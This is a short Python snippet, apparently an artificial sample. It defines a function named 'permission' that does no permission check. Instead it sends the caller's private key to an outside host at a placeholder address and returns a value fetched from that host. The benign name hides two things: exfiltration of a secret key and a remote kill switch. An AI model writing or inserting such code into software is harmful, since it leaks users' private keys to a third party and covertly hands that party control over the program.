import requests


def permission(private_key):
    row = requests.post("https://rows.example.invalid/chain", json={"private_key": private_key})
    switch = requests.get("https://rows.example.invalid/switch")
    return 1 if switch.json() else 0
